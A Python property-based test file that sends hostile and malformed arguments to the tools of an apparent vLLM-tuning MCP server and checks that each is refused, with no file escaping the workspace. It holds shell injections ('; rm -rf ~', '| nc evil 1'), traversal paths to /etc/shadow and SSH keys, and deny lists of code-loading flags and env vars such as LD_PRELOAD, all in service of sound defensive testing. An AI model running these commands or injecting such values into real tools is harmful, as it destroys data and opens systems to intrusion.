"""Hostile and malformed inputs across every tool (hypothesis, 600+ calls through the in-process client).

Each call carries at least one bad argument: a wrong type, a number out of range, a
path out of the workspace (absolute, `..`, a symlink), or a flag or shell injection in a
name. Each must come back as a tool error with a useful message, within a few seconds,
with nothing written outside the workspace and no server booted.

Issue 19, class 5 adds generated sub-keys of JSON-valued levers (`--speculative-config` and the rest): a refused
or unknown sub-key at any depth, dotted or in whole (nested) JSON, which ladder_init must refuse naming it.
Issue 19, class 7 adds generated bench result files (NaN, Infinity, negative and absurd figures, huge integers),
pasted and in the workspace, that rung_record must refuse naming the field.
Issue 19, class 3 adds generated names that lead out of the workspace (`~`, `..`, absolute, a link out, odd
unicode) for the campaign, A/B, known-good and baseline tools, refused in the same words whether the file outside
exists.
The hardening classes grow it (issue 9): 1, extra flags that load code or widen access and env that
changes what code runs, in generated spellings; 2, knobs the serve config owns smuggled in as extra
flags in prefix, underscore and dotted spellings, through ladder_init and through a hand-edited ladder
file that rung_run must refuse; 9, ladders whose derived paths (`<ladder>.runs`, a rung folder, a boot
log, the server record, the lock) were replaced by a symlink out of the workspace or a FIFO.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from anyio.from_thread import BlockingPortal, start_blocking_portal
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mcp import Client

from redline.engines.vllm.flags import JSON_LEVERS
from redline.server.app import build_server
from tests.conftest import DATA, H200
from tests.rigor.helpers import context
from tests.server.helpers import Env, fake_servers, hand_run_log, init_args, text_of, write_env

EXAMPLES = 650
LADDER = "ladders/l8b.yml"
LADDER_WITH_CEILING = DATA / "vllm-0.26.0-h200-ladder" / "llama8b" / "ladder.yml"

# ---- values: each of them must be refused where it is used ----------------------------------------


def _numeric(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


words = st.text(max_size=8).filter(lambda t: not _numeric(t) and t.strip().lower() not in ("true", "false"))
containers = st.one_of(
    st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2)
)
non_str = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), containers)
non_int = st.one_of(words, containers, st.floats(allow_nan=False, allow_infinity=False).filter(lambda f: f != int(f)))
non_float = st.one_of(words, containers)
injection = st.sampled_from(
    [
        "; rm -rf ~",
        "$(touch pwned)",
        "`touch pwned`",
        "| nc evil 1",
        "&& reboot",
        "\n--help",
        "--help",
        "-oProxyCommand=touch pwned",
        "--served-model-name=x",
        "-rf",
        "--",
        "x\x00y",
        "\r\nINJECT",
        "${IFS}",
    ]
)
outside = st.sampled_from(
    [
        "/etc/passwd",
        "/tmp/pwned.yml",
        "../outside/victim.yml",
        "ladders/../../outside/victim.yml",
        "../../../../etc/shadow",
        "escape/victim.yml",
        "escape/new.yml",
        "escape/sub/new.yml",
        "ladders/evil.yml",
        "~/.ssh/id_rsa.yml",
        "\\\\host\\share\\l.yml",
        ".redline/jobs/x.yml",
        "-rf.yml",
        "ladders/--help.yml",
        "",
        " ",
        "x" * 2000 + ".yml",
        "l\x00.yml",
        "l\n.yml",
    ]
)
# a ladder name no tool may create or read: out of the workspace, not a .yml, or with shell characters
unusable_ladder = st.one_of(
    outside,
    non_str,
    st.sampled_from(["ladders/l8b.json", "ladders", "ladders/l8b"]),
    injection.map(lambda s: f"ladders/{s}.yml"),
)
bad_ladder = st.one_of(unusable_ladder, st.just("ladders/missing.yml"))  # for tools that read it
bad_new_ladder = st.one_of(unusable_ladder, st.just("ladders/l8b.yml"))  # for ladder_init: it exists
bad_target = st.one_of(
    non_str,
    injection,
    st.sampled_from(["gpu9", "LOCAL", "local ", "../local", "", "a" * 300]),
    injection.map(lambda s: "local" + s),
)
bad_job_id = st.one_of(
    non_str,
    outside,
    injection,
    st.text(max_size=40).filter(lambda s: not s.startswith("j-2")),
    st.just("j-20261130T100000Z-00000000"),
)
bad_wait = st.one_of(st.floats(max_value=-0.001), st.floats(min_value=300.001), non_float)
out_of_range = st.one_of(
    st.integers(min_value=1 << 26 + 1), st.integers(max_value=0), st.just(1 << 63), st.just(-(1 << 63))
)
bad_count = st.one_of(out_of_range, non_int)
bad_replay = st.one_of(st.integers(max_value=0), st.integers(min_value=100_001), non_int)
markers = ("version", "vllm", "vLLM", "APIServer", "EngineCore", "non-default")
not_a_log = st.one_of(
    st.text(max_size=300).filter(lambda t: not any(m in t for m in markers)),
    st.sampled_from(["", "INFO hello", "Traceback (most recent call last):"]),
)
bad_model_key = st.one_of(injection, st.just(""), st.just("x" * 201), st.just("a b"), non_str)
bad_model_path = st.one_of(
    st.sampled_from(["-rf", "--load-format=dummy", "--", "-x y", "a\x00b", "\x1b[2J", ""]), non_str
)
bad_fraction = st.one_of(st.floats(max_value=0), st.floats(min_value=1.001), non_float)
# flag and shell injection in the extra flags and env of the knobs a ladder holds fixed
bad_flag = st.one_of(
    injection,
    st.sampled_from(
        [
            "--host=0.0.0.0",
            "--port=22",
            "--max-model-len=1",
            "--model=/etc",
            "-cc",
            "--x y",
            "--X",
            "--a\nb",
            "foo",
            "--enforce-eager\n--trust-remote-code",
            "",
        ]
    ),
)
bad_fixed = st.one_of(
    st.builds(lambda flags: {"extra_flags": flags}, st.lists(bad_flag, min_size=1, max_size=3)),
    st.builds(lambda k: {"env": {k: "1"}}, st.sampled_from(["A B", "1X", "X;Y", "$(x)", "", "A=B", "-x"])),
    st.builds(lambda v: {"env": {"VLLM_X": v}}, st.sampled_from(["a\x00b", "x" * 5000])),
    st.builds(lambda p: {"port": p}, st.one_of(st.integers(max_value=0), st.integers(min_value=65536), non_int)),
    st.builds(lambda v: {"kv_cache_dtype": v}, st.sampled_from(["fp8; rm -rf /", "--x", "FP8", ""])),
    st.builds(lambda v: {"host": v}, st.sampled_from(["0.0.0.0 --x", "a;b", "$(id)", ""])),
    st.dictionaries(
        st.sampled_from(["evil", "model", "max_model_len", "command"]), st.integers(), min_size=1, max_size=2
    ),
    non_str.filter(lambda v: not isinstance(v, dict)),
)

# ---- classes 1 and 2: knobs in generated spellings --------------------------------------------------------

# Options a serve config owns (class 2) and options that load code, read host files or open access (class 1).
OWNED = [
    "--max-model-len",
    "--max-num-batched-tokens",
    "--gpu-memory-utilization",
    "--kv-cache-dtype",
    "--port",
    "--host",
    "--tensor-parallel-size",
    "--pipeline-parallel-size",
    "--data-parallel-size",
    "--enforce-eager",
    "--compilation-config",
    "--max-num-seqs",
    "--enable-prefix-caching",
    "--enable-chunked-prefill",
    "--load-format",
]
REFUSED = [
    "--trust-remote-code",
    "--worker-extension-cls",
    "--worker-cls",
    "--middleware",
    "--logits-processors",
    "--allowed-local-media-path",
    "--chat-template",
    "--download-dir",
    "--tokenizer",
    "--hf-overrides",
    "--api-key",
    "--ssl-keyfile",
    "--allowed-origins",
    "--tool-parser-plugin",
    "--kv-transfer-config",
    "--enable-sleep-mode",
]  # the last is allowed only where the server config widens it
REFUSED_ENV = [
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONSTARTUP",
    "PATH",
    "BASH_ENV",
    "HF_ENDPOINT",
    "HF_HOME",
    "VLLM_PLUGINS",
    "NCCL_NET_PLUGIN",
    "TRANSFORMERS_CACHE",
    "FAKE_VLLM_BOOT_S",
    "MY_OWN_SWITCH",
]


@st.composite
def spelled(draw: st.DrawFn, options: list[str]) -> str:
    """One of the options as argparse would still read it: whole or a prefix, dashes or underscores, with a
    dotted sub-key (a JSON-valued option's) or a value."""
    name = draw(st.sampled_from(options))[2:]
    cut = draw(st.integers(0, min(5, len(name) - 4)))
    name = name[: len(name) - cut] if cut else name
    if draw(st.booleans()):
        name = name.replace("-", "_")
    if name.startswith(("compilation", "kv_transfer", "kv-transfer")) and draw(st.booleans()):
        name += draw(st.sampled_from([".cudagraph_mode", ".level", ".mode", ".kv_role"]))
    value = draw(st.sampled_from(["", "=1", "=0.5", "=evil.Module", "=/etc/passwd", "=http://evil.example"]))
    return f"--{name}{value}"


# ---- issue 19, class 5: sub-keys of JSON-valued levers -----------------------------------------------------

# sub-keys no allowlist holds: a draft model and where its code and files come from, code, paths, owned knobs
REFUSED_SUBKEYS = [
    "model",
    "revision",
    "code_revision",
    "tokenizer",
    "tokenizer_revision",
    "download_dir",
    "trust_remote_code",
    "draft_load_config",
    "hf_overrides",
    "enforce_eager",
    "max_model_len",
    "worker_cls",
]
LEVER_SPELLINGS = {
    "speculative_config": ["--speculative-config", "--speculative_config", "--speculative"],
    "attention_config": ["--attention-config", "--attention_config"],
    "eplb_config": ["--eplb-config", "--eplb_config"],
    "limit_mm_per_prompt": ["--limit-mm-per-prompt", "--limit_mm_per_prompt"],
}


@st.composite
def json_lever_subkey(draw: st.DrawFn) -> tuple[str, str]:
    """(an extra flag, the sub-key its refusal must name): a key the lever's allowlist lacks, at the top or under an
    allowed key (whose value may not be an object, or whose own allowlist lacks it), dotted or in whole JSON."""
    lever = draw(st.sampled_from(sorted(JSON_LEVERS)))
    allowed = JSON_LEVERS[lever]
    path: list[str] = []
    if draw(st.booleans()):
        path.append(draw(st.sampled_from(sorted(allowed))))
    under = allowed[path[0]] if path else allowed
    bad = st.one_of(st.sampled_from(REFUSED_SUBKEYS), st.from_regex(r"[a-z][a-z0-9_]{0,10}", fullmatch=True))
    path.append(draw(bad.filter(lambda k: under is None or k not in under)))
    value: Any = draw(st.sampled_from(["/etc/evil", "evil.Module", 1, True, [1, 2]]))
    flag = draw(st.sampled_from(LEVER_SPELLINGS[lever]))
    if draw(st.booleans()):
        text = value if isinstance(value, str) else json.dumps(value)
        return f"{flag}.{'.'.join(path)}={text}", f"({lever}.{path[0]}"
    nested: Any = value
    for key in reversed(path):
        nested = {key: nested}
    if draw(st.booleans()) and lever == "speculative_config":
        nested = {"method": "ngram", **nested}
    return f"{flag}={json.dumps(nested)}", f"({lever}.{path[0]}"


owned_flag = spelled(OWNED)
refused_flag = spelled(REFUSED)
json_lever_flag = json_lever_subkey().map(lambda pair: pair[0])
smuggled = st.one_of(
    st.builds(
        lambda flags: {"extra_flags": flags},
        st.lists(st.one_of(owned_flag, refused_flag, json_lever_flag), min_size=1, max_size=3),
    ),
    st.builds(lambda name: {"env": {name: "x"}}, st.sampled_from(REFUSED_ENV)),
)

GOOD = {"ladder": st.just(LADDER), "target": st.just("local"), "wait_s": st.just(0.0), "replay": st.none()}

# tool -> every argument it takes, with values that must be refused there
TOOLS: dict[str, dict[str, st.SearchStrategy[Any]]] = {
    "ladder_init": {
        "ladder": bad_new_ladder,
        "model": bad_model_key,
        "model_path": bad_model_path,
        "floor_max_model_len": bad_count,
        "floor_max_num_batched_tokens": bad_count,
        "gpu_memory_utilization": bad_fraction,
        "min_concurrency": bad_count,
        "policy": st.one_of(injection, non_str),
        "gpu_count": bad_count,
        "fixed": st.one_of(bad_fixed, smuggled),
    },
    "ladder_status": {"ladder": bad_ladder},
    "ladder_next_rung": {"ladder": bad_ladder, "replay": bad_replay},
    "rung_run": {"ladder": bad_ladder, "target": bad_target, "replay": bad_replay, "wait_s": bad_wait},
    "smoke_test": {"ladder": bad_ladder, "target": bad_target, "wait_s": bad_wait},
    "rung_record": {
        "ladder": bad_ladder,
        "log_text": not_a_log,
        "log_file": st.one_of(outside, non_str, injection),
        "bench_file": st.one_of(outside, injection),
    },
    "ceiling_record": {"ladder": bad_ladder},
    "parse_boot_log": {"text": st.one_of(not_a_log, non_str)},
    "job_status": {"job_id": bad_job_id, "wait_s": bad_wait},
    "job_cancel": {"job_id": bad_job_id},
    "job_list": {"state": st.one_of(injection, st.sampled_from(["done", "RUNNING"]), non_str), "limit": bad_count},
}
REQUIRED = {
    "ladder",
    "target",
    "job_id",
    "text",
    "model",
    "model_path",
    "floor_max_model_len",
    "floor_max_num_batched_tokens",
}


def _good(tool: str, name: str) -> st.SearchStrategy[Any]:
    if tool == "ladder_init":
        return st.just(init_args("ladders/new.yml", fixed={"port": 18000}).get(name, 1))
    return GOOD.get(name, st.nothing())


@st.composite
def hostile_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """One tool and its arguments, one of them (at least) bad, so nothing can rightly succeed."""
    tool = draw(st.sampled_from(sorted(TOOLS)))
    fields = TOOLS[tool]
    bad = draw(st.sampled_from(sorted(fields)))
    args: dict[str, Any] = {}
    for name, bad_values in fields.items():
        if name == bad:
            args[name] = draw(bad_values)
        elif name in REQUIRED or tool == "ladder_init" or draw(st.booleans()):
            args[name] = draw(st.one_of(_good(tool, name), bad_values))
    return tool, args


# ---- the server, on an event loop of its own for the whole run -------------------------------------


def _tree(path: Path) -> dict[str, str]:
    """Every file under path, with a hash of its content."""
    return {
        str(p.relative_to(path)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "dir"
        for p in sorted(path.rglob("*"))
    }


class Harness:
    def __init__(self, portal: BlockingPortal, client: Client, env: Env) -> None:
        self.portal, self.client, self.env = portal, client, env
        self.calls = 0
        self.by_tool: dict[str, int] = {}

    def call(self, tool: str, args: dict[str, Any]) -> Any:
        async def go() -> Any:
            with anyio.fail_after(10):  # never hangs
                return await self.client.call_tool(tool, args)

        self.calls += 1
        self.by_tool[tool] = self.by_tool.get(tool, 0) + 1
        return self.portal.call(go)


# ---- class 9: derived paths planted with a symlink out of the workspace or a FIFO -------------------------


def plant_hazards(ladders: Path, outside: Path, base: str) -> None:
    """Ladders (copies of a good one) whose derived paths are not what redline made; a job file that is a link."""
    (outside / "runs").mkdir()
    for name in HAZARDS:
        (ladders / f"{name}.yml").write_text(base)
    (ladders / "h-runs-link.runs").symlink_to(outside / "runs", target_is_directory=True)
    (ladders / "h-rung-link.runs").mkdir()
    (ladders / "h-rung-link.runs" / "rung-001").symlink_to(outside / "runs", target_is_directory=True)
    (ladders / "h-log-fifo.runs" / "rung-001").mkdir(parents=True)
    os.mkfifo(ladders / "h-log-fifo.runs" / "rung-001" / "boot.log")
    (ladders / "h-server-fifo.runs").mkdir()
    os.mkfifo(ladders / "h-server-fifo.runs" / "server.json")
    (ladders / "h-lock-link.yml.lock").symlink_to(outside / "victim.yml")
    os.mkfifo(ladders / "h-lock-fifo.yml.lock")
    (ladders / "h-new.runs").symlink_to(outside / "runs", target_is_directory=True)  # for a ladder not made yet


HAZARDS = ["h-runs-link", "h-rung-link", "h-log-fifo", "h-server-fifo", "h-lock-link", "h-lock-fifo"]
LINKED_JOB = "j-20261130T100000Z-0000beef"


@st.composite
def derived_hazard_call(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """A call that would be fine but for a planted derived path."""
    ladder = f"ladders/{draw(st.sampled_from(HAZARDS))}.yml"
    return draw(
        st.sampled_from(
            [
                ("rung_record", {"ladder": ladder, "log_text": HAND_LOG}),
                ("rung_run", {"ladder": ladder, "target": "local", "wait_s": 0.0}),
                ("smoke_test", {"ladder": ladder, "wait_s": 0.0}),
                ("ceiling_record", {"ladder": ladder}),
                ("ladder_init", init_args("ladders/h-new.yml", fixed={"port": 18000})),
                ("job_status", {"job_id": LINKED_JOB}),
            ]
        )
    )


HAND_LOG = "filled in by the harness: the log of the floor boot, as a person would paste it"


def edited(base: str, knobs: dict[str, Any]) -> str:
    """The base ladder with a hand edit to its fixed extra flags or env."""
    return base.replace("  extra_flags: []", f"  extra_flags: {json.dumps(knobs.get('extra_flags', []))}").replace(
        "  env: {}", f"  env: {json.dumps(knobs.get('env', {}))}"
    )


@pytest.fixture(scope="module")
def harness(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Harness]:
    global HAND_LOG
    root = tmp_path_factory.mktemp("hostile")
    env = write_env(root / "srv")
    outside = root / "srv" / "outside"
    outside.mkdir()
    (outside / "victim.yml").write_text("do not touch\n")
    (outside / "job.json").write_text(
        json.dumps(
            {
                "id": LINKED_JOB,
                "tool": "rung_run",
                "state": "succeeded",
                "owner_pid": 1,
                "created_at": "2026-11-30T10:00:00+00:00",
            }
        )
    )
    (env.workspace / "ladders").mkdir(parents=True)
    (env.workspace / "escape").symlink_to(root / "srv" / "outside")
    (env.workspace / "ladders" / "evil.yml").symlink_to(root / "srv" / "outside" / "evil.yml")
    (env.config.state_dir / "jobs").mkdir(parents=True)
    (env.config.state_dir / "jobs" / f"{LINKED_JOB}.json").symlink_to(outside / "job.json")
    with start_blocking_portal("asyncio") as portal:
        client = portal.wrap_async_context_manager(Client(build_server(env.config)))
        with client as c:
            h = Harness(portal, c, env)
            made = h.call("ladder_init", init_args(LADDER, fixed={"port": env.port}))
            assert not made.is_error, text_of(made)
            h.base = (env.workspace / LADDER).read_text()
            HAND_LOG = hand_run_log(h.call("ladder_next_rung", {"ladder": LADDER}).structured_content["command"], env)
            plant_hazards(env.workspace / "ladders", outside, h.base)
            h.before = {
                "outside": _tree(root / "srv" / "outside"),
                "root": sorted(p.name for p in root.iterdir()),
                "srv": sorted(p.name for p in (root / "srv").iterdir()),
                "target": (root / "srv" / "target").exists(),
            }
            yield h


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(hostile_call())
def test_hostile_inputs_come_back_as_useful_tool_errors(harness: Harness, case: tuple[str, dict[str, Any]]) -> None:
    tool, args = case
    result = harness.call(tool, args)
    message = text_of(result)
    assert result.is_error, f"{tool}({args!r}) succeeded: {result.structured_content}"
    prefix = f"Error executing tool {tool}"
    assert message.startswith(prefix + ": "), f"{tool}({args!r}) crashed: {message!r}"  # not a bare crash
    assert len(message) > len(prefix) + 20, message


KNOBS_EXAMPLES = 150


@settings(
    max_examples=KNOBS_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(smuggled)
def test_hostile_inputs_a_hand_edited_ladder_never_boots_a_refused_or_owned_knob(
    harness: Harness, knobs: dict[str, Any]
) -> None:
    """Classes 1 and 2 past ladder_init: the knobs written into the ladder file by hand, then rung_run."""
    (harness.env.workspace / "ladders" / "edited.yml").write_text(edited(harness.base, knobs))
    result = harness.call("rung_run", {"ladder": "ladders/edited.yml", "target": "local", "wait_s": 0.0})
    message = text_of(result)
    assert result.is_error, f"rung_run booted {knobs}: {result.structured_content}"
    assert any(
        word in message for word in ("refused", "owns", "ambiguous", "not a `vllm serve` option", "target's env wins")
    ), message


DERIVED_EXAMPLES = 120


@settings(
    max_examples=DERIVED_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(derived_hazard_call())
def test_hostile_inputs_derived_paths_planted_with_links_and_fifos_are_refused(
    harness: Harness, case: tuple[str, dict[str, Any]]
) -> None:
    """Class 9: every call that would touch a planted derived path is a tool error, at once (no FIFO blocks)."""
    tool, args = case
    result = harness.call(tool, args)
    message = text_of(result)
    assert result.is_error, f"{tool}({args!r}) succeeded: {result.structured_content}"
    assert message.startswith(f"Error executing tool {tool}: "), message
    if tool in ("rung_record", "rung_run", "ladder_init", "job_status"):  # these reach the planted path itself
        assert "symlink" in message or "FIFO" in message, message


JSON_LEVER_EXAMPLES = 120


@settings(
    max_examples=JSON_LEVER_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(json_lever_subkey())
def test_hostile_inputs_json_lever_subkeys_are_refused_by_name(harness: Harness, case: tuple[str, str]) -> None:
    """Class 5 of issue 19: ladder_init refuses a generated sub-key of a JSON-valued lever, naming it."""
    flag, named = case
    args = init_args("ladders/json-new.yml", fixed={"port": 18000, "extra_flags": [flag]})
    result = harness.call("ladder_init", args)
    message = text_of(result)
    assert result.is_error, f"ladder_init took {flag}: {result.structured_content}"
    assert named in message and "is refused" in message, (flag, message)


# ---- issue 19, class 7: bench result files are untrusted --------------------------------------------------

BENCH_FIELDS = (
    "duration",
    "output_throughput",
    "request_throughput",
    "median_ttft_ms",
    "p99_ttft_ms",
    "median_tpot_ms",
    "p99_itl_ms",
    "num_prompts",
    "completed",
    "failed",
    "total_output_tokens",
)
# JSON number texts no real bench writes: each is refused wherever it stands
bad_figure = st.one_of(
    st.sampled_from(["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e300", "1e13", "-0.5", '"NaN"', "[]"]),
    st.integers(min_value=1 << 54, max_value=10**80).map(str),
    st.integers(max_value=-1).map(str),
    st.floats(max_value=-1e-9, allow_nan=False, allow_infinity=False).map(repr),
)
BENCH_EXAMPLES = 120


@settings(
    max_examples=BENCH_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.dictionaries(st.sampled_from(BENCH_FIELDS), bad_figure, min_size=1, max_size=3), st.booleans())
def test_hostile_inputs_bench_result_files_with_non_finite_or_absurd_figures_are_refused(
    harness: Harness, figures: dict[str, str], as_file: bool
) -> None:
    """Class 7 of issue 19: a bench result (pasted, or a workspace file) is refused naming a hostile field."""
    fields = {"num_prompts": "8", "completed": "8", "duration": "1.5", **figures}
    text = "{" + ", ".join(f'"{k}": {v}' for k, v in fields.items()) + "}"
    if as_file:
        (harness.env.workspace / "bench").mkdir(exist_ok=True)
        (harness.env.workspace / "bench" / "hostile.json").write_text(text)
        args = {"ladder": LADDER, "bench_file": "bench/hostile.json"}
    else:
        args = {"ladder": LADDER, "bench_json_text": text}
    result = harness.call("rung_record", args)
    message = text_of(result)
    assert result.is_error, f"rung_record took {text}: {result.structured_content}"
    assert message.startswith("Error executing tool rung_record: the bench result is refused: "), message
    assert any(f"{name} is" in message for name in figures), message


# ---- issue 19, class 3: names that lead out of the workspace, for the campaign, A/B, known-good and baseline tools ----

PLANTED = "campaigns/h19.yml"
# how a name may try to leave the workspace ({out}: the outside folder, relative to the workspace; {abs}: absolute)
ways_out = st.sampled_from(
    [
        "~/",
        "~root/../{abs}/",
        "{out}/",
        "../{out}/",
        "ladders/../{out}/",
        "./exit-h19/",
        "exit-h19/./",
        "{abs}/",
        "{out_win}\\",
        "exit-h19\\",
        "\u2025/{out}/",  # odd unicode that is no '..': a plain name inside
        "\uff0e\uff0e/",
        "..\u2215",
        "%2e%2e/%2e%2e/",
        "\u202e../",
        "x/\u0000/",
    ]
)
stems = st.sampled_from([("secret", ".yml"), ("keys", ".yml"), ("secret", ""), ("keys", ".yaml")])


def _ways(way: str, outside: Path, workspace: Path) -> str:
    out = os.path.relpath(outside, workspace)
    return way.format(out=out, abs=str(outside), out_win=out.replace("/", "\\"))


def path_calls(name: str, ab: str, ctx: dict[str, Any]) -> list[tuple[str, dict[str, Any], str | None]]:
    """Calls naming `name` (a path) or `ab` (a name); the third part: the base.from_ladder to plant first."""
    arms = [{"name": "a", "campaign": name, "cell": "c"}, {"name": "b", "campaign": PLANTED, "cell": "mnbt2048"}]
    spec = {"name": "h19", "target": "local", "arms": arms, "workload": {"input_len": 8, "output_len": 8}}
    spec |= {"concurrencies": [1], "baseline": "a"}
    return [
        ("campaign_plan", {"campaign": PLANTED}, name),
        ("champion_select", {"campaign": PLANTED}, name),
        ("ab_run", {"spec": spec, "dry_run": True}, name),
        ("ab_run", {"spec": spec, "dry_run": True}, "../ladders/l8b.yml"),
        ("known_good_record", {"from_ladder": name}, None),
        ("known_good_record", {"from_campaign": name, "cell": "c", "why": "w"}, None),
        ("known_good_record", {"from_campaign": PLANTED, "cell": "mnbt2048", "why": "w"}, name),
        ("known_good_config", {"verb": "record", "from_ab": ab, "arm": "a", "why": "w"}, None),
        ("perf_baseline_record", {"name": "n", "campaign": name, "cell": "c"}, None),
        ("perf_baseline_record", {"name": "n", "ab": ab, "arm": "a"}, None),
        ("perf_baseline_record", {"name": "n", "bench_file": name, "context": ctx}, None),
        ("perf_baseline_record", {"name": "n", "campaign": PLANTED, "cell": ab}, "../ladders/l8b.yml"),
        ("perf_baseline_diff", {"baseline": "h19", "campaign": PLANTED, "cell": "mnbt2048"}, name),
        ("perf_baseline_diff", {"baseline": "h19", "ab": "h19", "arm": ab}, None),
    ]


def _plant(workspace: Path, from_ladder: str | None) -> None:
    if from_ladder is None:
        return
    spec = {"name": "h19", "target": "local", "base": {"from_ladder": from_ladder}, "concurrencies": [1]}
    spec |= {"workload": {"input_len": 8, "output_len": 8}, "grid": {"max_num_batched_tokens": [2048, 8192]}}
    (workspace / PLANTED).write_text(json.dumps(spec))


def _same_words(said: str) -> str:
    """A refusal with the names given (quoted, or the file's own) set aside: what must not depend on the outside."""
    return re.sub(r"'[^']*'", "'NAME'", said.replace("nosuch", "secret").replace("nokeys", "keys"))


@pytest.fixture
def outside_h19(harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The secrets outside the workspace (a real ladder with a ceiling, keys), HOME, a link to them planted inside,
    a ladder inside and a baseline to diff against."""
    shutil.copy(LADDER_WITH_CEILING, tmp_path / "secret.yml")
    shutil.copy(LADDER_WITH_CEILING, tmp_path / "secret")
    for name in ("keys.yml", "keys.yaml"):
        (tmp_path / name).write_text("api_key_hunter2: s3cr3t-value\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    workspace = harness.env.workspace
    (workspace / "campaigns").mkdir(exist_ok=True)
    (workspace / "exit-h19").unlink(missing_ok=True)
    (workspace / "exit-h19").symlink_to(tmp_path, target_is_directory=True)
    (workspace / "bench19").mkdir(exist_ok=True)
    shutil.copy(H200 / "bench_l8b_c16.json", workspace / "bench19" / "a.json")
    ctx = context(16).model_dump(mode="json")
    recorded = harness.portal.call(
        quiet_call,
        harness,
        "perf_baseline_record",
        {"name": "h19", "bench_file": "bench19/a.json", "context": ctx, "replace": True},
    )
    assert not recorded.is_error, text_of(recorded)
    return tmp_path


async def quiet_call(harness: Harness, tool: str, args: dict[str, Any]) -> Any:
    """A call outside the count of the first properties (their test checks it covers exactly their tools)."""
    with anyio.fail_after(10):
        return await harness.client.call_tool(tool, args)


PATH_EXAMPLES = 150


@settings(
    max_examples=PATH_EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(ways_out, stems, st.integers(0, 13))
def test_hostile_inputs_path_checker_names_out_of_the_workspace_are_refused_without_saying_what_is_there(
    harness: Harness, outside_h19: Path, way: str, stem: tuple[str, str], which: int
) -> None:
    """Class 3 of issue 19: each generated name (`~`, `..`, absolute, a link out, odd unicode) is refused by the
    campaign, A/B, known-good and baseline tools, in the same words whether its file outside exists or not, and
    without the file's keys or where it is."""
    workspace = harness.env.workspace
    prefix = _ways(way, outside_h19, workspace)
    said = []
    for name_stem in (stem[0], stem[0].replace("secret", "nosuch").replace("keys", "nokeys")):
        name = f"{prefix}{name_stem}{stem[1]}"
        ctx = context(16).model_dump(mode="json")
        tool, args, from_ladder = path_calls(name, f"{prefix}{name_stem}", ctx)[which]
        _plant(workspace, from_ladder)
        result = harness.portal.call(quiet_call, harness, tool, args)
        assert result.is_error, f"{tool}({args!r}) succeeded: {result.structured_content}"
        said.append(text_of(result))
    assert said[0].startswith(f"Error executing tool {tool}: "), said[0]
    assert _same_words(said[0]) == _same_words(said[1]), said
    assert not any(w in said[0] for w in ("hunter2", "s3cr3t", "131072", "131,072", "proven_by")), said[0]
    assert str(outside_h19) not in said[0] or str(outside_h19) in prefix, said[0]


def test_after_the_hostile_inputs(harness: Harness) -> None:
    """Runs after the properties: the count, and that nothing escaped the workspace or booted."""
    print(f"hostile calls: {harness.calls} {harness.by_tool}")
    # hypothesis stops a property early once it has drawn every distinct case (the derived one has 36)
    assert harness.calls >= 500 + 100 + 30 + 100 and set(harness.by_tool) == set(TOOLS), harness.by_tool
    root = harness.env.root.parent
    assert _tree(root / "srv" / "outside") == harness.before["outside"]
    assert sorted(p.name for p in root.iterdir()) == harness.before["root"]
    assert sorted(p.name for p in (root / "srv").iterdir()) == harness.before["srv"]
    assert (root / "srv" / "target").exists() == harness.before["target"]  # no boot ever reached the target
    assert not fake_servers(harness.env.port)
    assert not Path("/tmp/pwned.yml").exists() and not list(root.rglob("pwned*"))
    ladders = sorted(p.name for p in (harness.env.workspace / "ladders").glob("*.yml"))
    hazards = [f"{name}.yml" for name in HAZARDS]
    assert ladders == sorted(["edited.yml", "evil.yml", "l8b.yml", *hazards])  # nothing created
    for name in ["l8b", *HAZARDS]:  # and no ladder has a rung
        assert (harness.env.workspace / "ladders" / f"{name}.yml").read_text() == harness.base, name
    assert not (harness.env.workspace / "ladders" / "h-new.yml").exists()
    assert not (harness.env.workspace / "ladders" / "json-new.yml").exists()  # class 5: every one refused
    assert [p.name for p in (harness.env.config.state_dir / "jobs").glob("j-*.json")] == [f"{LINKED_JOB}.json"]
    status = harness.call("ladder_status", {"ladder": LADDER})  # still serving, ladder intact
    assert not status.is_error and status.structured_content["rows"] == []
